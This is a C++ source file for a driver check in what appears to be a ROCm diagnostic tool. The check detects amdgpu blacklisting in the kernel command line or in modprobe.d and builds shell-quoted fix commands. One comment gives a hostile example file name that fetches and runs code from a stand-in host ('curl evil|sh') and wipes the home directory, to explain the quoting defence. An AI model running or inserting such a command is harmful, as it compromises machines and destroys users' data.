// SPDX-License-Identifier: MIT
// driver.blacklist: kernel command-line tokens and modprobe.d lines that keep amdgpu from
// loading (nomodeset, modprobe.blacklist=amdgpu, blacklist amdgpu, ...).
#include <string>

#include "amdgpu_module_info.h"
#include "rocm_doctor/check.h"
#include "rocm_doctor/paths.h"
#include "rocm_doctor/shell_quote.h"

namespace rocm_doctor {
namespace {

constexpr std::string_view kPrereqs[] = {"hardware.gpus"};
constexpr std::string_view kBlacklistCommands[] = {"{!undo}", "{!regenerate}"};

// The finding codes this check reports (registered with it; stable, never reused).
constexpr FindingSpec kFindings[] = {
    {.code = "driver.amdgpu.blacklisted",
     .severity = Status::kFail,
     .title = "amdgpu is disabled on the kernel command line or in modprobe.d",
     .remediation = "The amdgpu driver is deliberately kept from loading, so the GPU has no "
                    "driver. For a kernel command-line token, remove it from GRUB_CMDLINE_LINUX "
                    "(and GRUB_CMDLINE_LINUX_DEFAULT) in /etc/default/grub (or its grub.d/ "
                    "drop-ins) and regenerate the GRUB configuration; for a modprobe.d line, "
                    "delete or comment it out and rebuild the initramfs (which holds a copy). "
                    "Then reboot. If it is deliberate (AMD's MI300X guide loads amdgpu after "
                    "boot), run `sudo modprobe amdgpu` instead.",
     .commands = kBlacklistCommands,
     .requires_root = true,
     .reboot_required = true},
    {.code = "driver.amdgpu.blacklist_inactive",
     .severity = Status::kInfo,
     .title = "amdgpu is disabled for boot but was loaded anyway",
     .remediation = "A command-line token or modprobe.d line disables amdgpu, yet amdgpu drives "
                    "every AMD GPU now (it was loaded after boot). If that is deliberate, "
                    "nothing to do; otherwise remove the rule so the driver loads at boot.",
     .commands = kBlacklistCommands,
     .requires_root = true,
     .reboot_required = true},
    {.code = "driver.blacklist.unknown",
     .severity = Status::kUnknown,
     .title = "Could not read every place that can disable amdgpu",
     .remediation = "/proc/cmdline or a modprobe.d file could not be read, so a blacklist there "
                    "would go unseen. Run rocm-doctor as root."},
};

constexpr CheckInfo kInfo{.id = "driver.blacklist",
                          .layer = Layer::kDriver,
                          .title = "amdgpu not disabled",
                          .prerequisites = kPrereqs,
                          .findings = kFindings};

Finding CmdlineFinding(const CmdlineBlock& block) {
  const std::string token = block.token;
  // The token is from /proc/cmdline of the machine: one shell word wherever it is pasted.
  const std::string quoted = ShellQuote(token);
  std::string undo = "sudoedit /etc/default/grub  # needs root; delete " + quoted +
                     " from GRUB_CMDLINE_LINUX and GRUB_CMDLINE_LINUX_DEFAULT";
  if (token.find(',') != std::string::npos) {
    undo = "sudoedit /etc/default/grub  # needs root; remove amdgpu from " + quoted;
  }
  return MakeFinding(
      "driver.amdgpu.blacklisted",
      "The kernel command line has " + token + ", which keeps amdgpu from loading",
      {{"/proc/cmdline", token, "no token that disables amdgpu"}},
      {{"token", token},
       {"undo", undo},
       {"regenerate",
        "sudo update-grub  # needs root; then reboot; Fedora/RHEL: sudo grubby "
        "--update-kernel=ALL --remove-args=" +
            (IsShellSafeWord(token) ? "\"" + token + "\"" : quoted)}});
}

Finding ModprobeFinding(const ModprobeRule& rule) {
  std::string where = rule.file + ":" + std::to_string(rule.line);
  return MakeFinding(
      "driver.amdgpu.blacklisted",
      where + " has \"" + rule.text + "\", which keeps amdgpu from loading",
      {{where, rule.text, "no line that disables amdgpu"}},
      {{"file", rule.file},
       {"line", std::to_string(rule.line)},
       // The file name is the machine's (modprobe.d): `x$(curl evil|sh)\nrm -rf ~ #.conf`
       // must stay one quoted word on one line of a command run as root.
       {"undo", "sudo sed -i '" + std::to_string(rule.line) + "s/^/# /' " +
                    ShellQuote(rule.file) + "  # needs root"},
       {"regenerate", "sudo update-initramfs -u  # needs root; then reboot; Fedora/RHEL: sudo "
                      "dracut -f"}});
}

// Every AMD GPU already has amdgpu bound: whatever the rules say, they did not stop it (amdgpu
// loaded by hand after boot, as AMD's MI300X tuning guide does).
bool AllGpusBoundToAmdgpu(const PciInventory& pci) {
  std::vector<const PciDevice*> gpus = pci.AmdGpus();
  if (gpus.empty()) return false;
  for (const PciDevice* gpu : gpus) {
    if (!gpu->driver.known() || *gpu->driver != "amdgpu") return false;
  }
  return true;
}

Finding Inactive(const Finding& blocking) {
  Finding f = MakeFinding("driver.amdgpu.blacklist_inactive",
                          blocking.message +
                              "; amdgpu is bound to every AMD GPU anyway (loaded "
                              "after boot?), but it will not load by itself",
                          blocking.evidence, blocking.params);
  return f;
}

CheckOutcome Run(const CheckContext& ctx) {
  const KernelFacts& k = ctx.facts.Kernel();
  std::vector<Finding> findings;
  for (const CmdlineBlock& block : k.cmdline_blocks) findings.push_back(CmdlineFinding(block));
  for (const ModprobeRule& rule : k.modprobe_blocks) findings.push_back(ModprobeFinding(rule));
  if (!findings.empty()) {
    if (AllGpusBoundToAmdgpu(ctx.facts.Pci())) {
      for (Finding& f : findings) f = Inactive(f);
    }
    return CheckOutcome::FromFindings(std::move(findings));
  }

  std::vector<std::string> unread = k.modprobe_errors;
  // A machine directory without /proc/cmdline simply did not capture it; a live host that
  // cannot read it is another matter.
  if (!k.cmdline.known() && !(k.cmdline_not_found && ctx.facts.IsReplay())) {
    unread.insert(unread.begin(), k.cmdline.source + ": " + k.cmdline.error);
  }
  if (!unread.empty()) {
    std::vector<Evidence> evidence;
    for (const std::string& u : unread) evidence.push_back({u, "unreadable", "readable"});
    return CheckOutcome::FromFindings(
        {MakeFinding("driver.blacklist.unknown",
                     "No blacklist found, but could not read " + driver::Join(unread, "; "),
                     std::move(evidence))});
  }
  std::string summary = "no blacklist, nomodeset or modeset=0";
  summary += k.cmdline.known() ? " (/proc/cmdline, modprobe.d)"
                               : " in modprobe.d (no /proc/cmdline captured)";
  std::vector<Evidence> evidence;
  if (k.cmdline.known()) evidence.push_back({k.cmdline.source, *k.cmdline, "no modprobe.blacklist=amdgpu, nomodeset or amdgpu.modeset=0"});
  for (std::string_view dir : paths::kModprobeDirs) {
    evidence.push_back({std::string(dir), "no *.conf line disables amdgpu", ""});
  }
  return CheckOutcome::Pass(summary, std::move(evidence));
}

}  // namespace

ROCMDOC_REGISTER_CHECK(kInfo, Run);

}  // namespace rocm_doctor
